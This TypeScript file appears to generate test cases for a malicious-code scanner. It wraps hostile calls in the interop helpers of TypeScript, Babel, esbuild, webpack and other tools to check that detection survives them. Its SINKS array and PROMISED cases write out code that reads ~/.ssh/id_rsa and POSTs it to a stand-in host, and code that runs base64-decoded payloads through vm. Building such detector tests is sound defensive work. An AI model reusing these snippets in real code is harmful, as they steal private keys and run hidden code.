import type { Evasion } from './evasion.js';

/** What a compiler or bundler puts around each module that a script loads. */
interface Wrapper {
  name: string;
  before?: string;
  /** The expression that loads a module by its name. */
  load: (module: string) => string;
  /** Ways from what is loaded to the module. */
  ways: readonly ((loaded: string) => string)[];
  files?: Record<string, string>;
  around?: (code: string) => string;
}

const required = (module: string): string => `require("${module}")`;
const by = (callee: string, more = '') => (module: string): string => `${callee}(${required(module)}${more})`;
const itself = (loaded: string): string => loaded;
const byDefault = (loaded: string): string => `${loaded}.default`;
const BOTH = [itself, byDefault];
const DEFAULT = [byDefault];

const SETS_DEFAULT = 'var __createBinding = (this && this.__createBinding) || (Object.create ? (function (o, m, k, k2) { if (k2 === undefined) k2 = k; Object.defineProperty(o, k2, { enumerable: true, get: function () { return m[k]; } }); }) : (function (o, m, k, k2) { o[k2] = m[k]; }));\nvar __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function (o, v) { Object.defineProperty(o, "default", { enumerable: true, value: v }); }) : function (o, v) { o["default"] = v; });\n';
const TS_DEFAULT = 'var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };\n';
const TS_STAR = `${SETS_DEFAULT}var __importStar = (this && this.__importStar) || function (mod) { if (mod && mod.__esModule) return mod; var result = {}; if (mod != null) for (var k in mod) if (k !== "default") __createBinding(result, mod, k); __setModuleDefault(result, mod); return result; };\n`;
const TS_STAR_KEYS = `${SETS_DEFAULT}var __importStar = (this && this.__importStar) || (function () { var ownKeys = function (o) { ownKeys = Object.getOwnPropertyNames; return ownKeys(o); }; return function (mod) { if (mod && mod.__esModule) return mod; var result = {}; for (var k = ownKeys(mod), i = 0; i < k.length; i++) __createBinding(result, mod, k[i]); __setModuleDefault(result, mod); return result; }; })();\n`;
const BABEL_DEFAULT = 'function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }\n';
const BABEL_WILDCARD = 'function _interopRequireWildcard(e, t) { if ("function" == typeof WeakMap) var r = new WeakMap(); return (_interopRequireWildcard = function (e, t) { if (!t && e && e.__esModule) return e; var f = { __proto__: null, default: e }; if (r.has(e)) return r.get(e); for (const t in e) f[t] = e[t]; return f; })(e, t); }\n';
const ESBUILD = 'var __create = Object.create, __defProp = Object.defineProperty, __getOwnPropNames = Object.getOwnPropertyNames, __getProtoOf = Object.getPrototypeOf;\nvar __copyProps = (to, from, except) => { for (let key of __getOwnPropNames(from)) if (key !== except) __defProp(to, key, { get: () => from[key] }); return to; };\nvar __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target, mod));\n';
const ROLLUP_NAMESPACE = 'function _interopNamespaceDefault(e) { var n = Object.create(null); if (e) { Object.keys(e).forEach(function (k) { Object.defineProperty(n, k, { enumerable: true, get: function () { return e[k]; } }); }); } n.default = e; return Object.freeze(n); }\n';
const WEBPACK_N = 'const n = () => 0; n.n = (module) => { var getter = module && module.__esModule ? () => (module["default"]) : () => (module); n.d(getter, { a: getter }); return getter; };\n';
const bundled = (code: string): string => `(() => { var e = { "m-https": (e) => { "use strict"; e.exports = require("https") }, "m-fs": function (e, t) { e.exports = require("fs") }, "m-vm"(m) { m.exports = require("vm") }, 1: (t, r, n) => { ${code} } }, t = {}; function r(n) { var o = t[n]; if (void 0 !== o) return o.exports; var i = t[n] = { exports: {} }; return e[n](i, i.exports, r), i.exports } r(1) })();`;
const helper = (from: string, member = ''): string => `const w = require("${from}")${member};\n`;

const WRAPPERS: readonly Wrapper[] = [
  { name: 'TypeScript default', before: TS_DEFAULT, load: by('__importDefault'), ways: DEFAULT },
  { name: 'TypeScript star', before: TS_STAR, load: by('__importStar'), ways: BOTH },
  { name: 'TypeScript star by keys', before: TS_STAR_KEYS, load: by('__importStar'), ways: BOTH },
  { name: 'TypeScript import()', before: TS_STAR, load: (module) => `await Promise.resolve().then(() => __importStar(${required(module)}))`, ways: BOTH, around: (code) => `(async () => { ${code} })()` },
  { name: 'tslib default', before: helper('tslib'), load: by('w.__importDefault'), ways: DEFAULT },
  { name: 'tslib star', before: helper('tslib'), load: by('(0, w.__importStar)'), ways: BOTH },
  { name: 'Babel default', before: BABEL_DEFAULT, load: by('_interopRequireDefault'), ways: DEFAULT },
  { name: 'Babel wildcard', before: BABEL_WILDCARD, load: by('_interopRequireWildcard'), ways: BOTH },
  { name: 'Babel runtime default', before: helper('@babel/runtime/helpers/interopRequireDefault'), load: by('w'), ways: DEFAULT },
  { name: 'Babel runtime wildcard', before: helper('@babel/runtime/helpers/interopRequireWildcard', '.default'), load: by('w'), ways: BOTH },
  { name: 'esbuild', before: ESBUILD, load: by('__toESM'), ways: BOTH },
  { name: 'esbuild for Node.js', before: ESBUILD, load: by('__toESM', ', 1'), ways: BOTH },
  { name: 'SWC', before: 'function _interop_require_default(obj) { return obj && obj.__esModule ? obj : { default: obj }; }\n', load: by('_interop_require_default'), ways: DEFAULT },
  { name: 'SWC by its package', before: helper('@swc/helpers/_/_interop_require_wildcard'), load: by('w._'), ways: BOTH },
  { name: 'Rollup default', before: "function _interopDefaultLegacy (e) { return e && typeof e === 'object' && 'default' in e ? e : { 'default': e }; }\n", load: by('_interopDefaultLegacy'), ways: [(loaded) => `${loaded}["default"]`] },
  { name: 'Rollup namespace', before: ROLLUP_NAMESPACE, load: by('_interopNamespaceDefault'), ways: BOTH },
  { name: 'Rolldown, another file', before: helper('./chunk.cjs'), load: by('w.__toESM'), ways: BOTH, files: { 'chunk.cjs': 'exports.__toESM = (m) => m' } },
  { name: 'webpack getter', before: WEBPACK_N, load: by('n.n'), ways: [(loaded) => `${loaded}()`, (loaded) => `${loaded}.a`] },
  { name: 'webpack module', load: (module) => `n("m-${module}")`, ways: BOTH, around: bundled },
  { name: 'webpack module and getter', load: (module) => `n.n(n("m-${module}"))`, ways: [(loaded) => `${loaded}()`, (loaded) => `${loaded}.a`], around: bundled },
  { name: 'own, copy', before: 'const w = (m) => Object.assign({}, m, { default: m });\n', load: by('w'), ways: BOTH },
  { name: 'own, spread', before: 'const w = (m) => ({ ...m, get default() { return m } });\n', load: by('w'), ways: BOTH },
  { name: 'own, first argument', before: 'const w = c ? function () { return arguments[0] } : null;\n', load: by('w'), ways: BOTH },
  { name: 'own, member', before: 'const tools = {}; tools.w = (m) => new Proxy(m, {});\n', load: by('tools.w'), ways: BOTH },
  { name: 'own, static method', before: 'class A { static w(m) { const kept = {}; kept.default = m; return kept } }\n', load: by('A.w'), ways: DEFAULT },
  { name: 'own, called', before: 'const w = c || ((m) => m);\n', load: (module) => `w.call(null, ${required(module)})`, ways: BOTH },
  { name: 'known name that does more', before: 'function __importDefault(m) { track(m); return c ? { default: m } : null }\n', load: by('__importDefault'), ways: DEFAULT },
];

const SINKS: readonly (readonly [modules: readonly string[], use: (...called: string[]) => string, functions: readonly string[], seenBy: string])[] = [
  [['fs', 'https'], (read, request) => `const r = ${request}("https://c.example.invalid/", { method: "POST" }); r.end(${read}(process.env.HOME + "/.ssh/id_rsa"))`, ['readFileSync', 'request'], 'data-leak critical'],
  [['vm'], (run) => `${run}(Buffer.from(t, "base64").toString())`, ['runInThisContext'], 'decoded-code critical'],
];

/** Modules behind what compilers put around them, as a member, and taken apart. */
export const WRAPPED: readonly Evasion[] = WRAPPERS.flatMap(({ name, before = '', load, ways, files = {}, around = (code) => code }) => ways.flatMap((way) => SINKS.flatMap(([modules, use, functions, seenBy]) => {
  const names = modules.map((module) => `${module}_1`);
  const loads = modules.map((module, at) => `const ${names[at]} = ${load(module)};`).join(' ');
  const taken = functions.map((each, at) => `const { ${each}: f${at} } = ${way(names[at]!)};`).join(' ');
  return [
    [`${name}, ${way('x')}, ${modules[0]}`, { 'index.js': before + around(`${loads} ${use(...functions.map((each, at) => `(0, ${way(names[at]!)}.${each})`))}`), ...files }, seenBy],
    [`${name}, ${way('x')}, ${modules[0]} taken apart`, { 'index.js': before + around(`${loads} ${taken} ${use(...functions.map((_, at) => `f${at}`))}`), ...files }, seenBy],
  ] satisfies Evasion[];
})));

/** A promise of a module hands it on. */
export const PROMISED: readonly Evasion[] = [
  ['then', 'import("vm").then((vm) => vm.runInThisContext(atob(t)))', 'decoded-code critical'],
  ['then, taken apart', 'import("vm").then(({ default: { runInThisContext: run } }) => run(atob(t)))', 'decoded-code critical'],
  ['then, then', 'import("vm").then((vm) => vm).then((vm) => vm.runInThisContext(atob(t)))', 'decoded-code critical'],
];
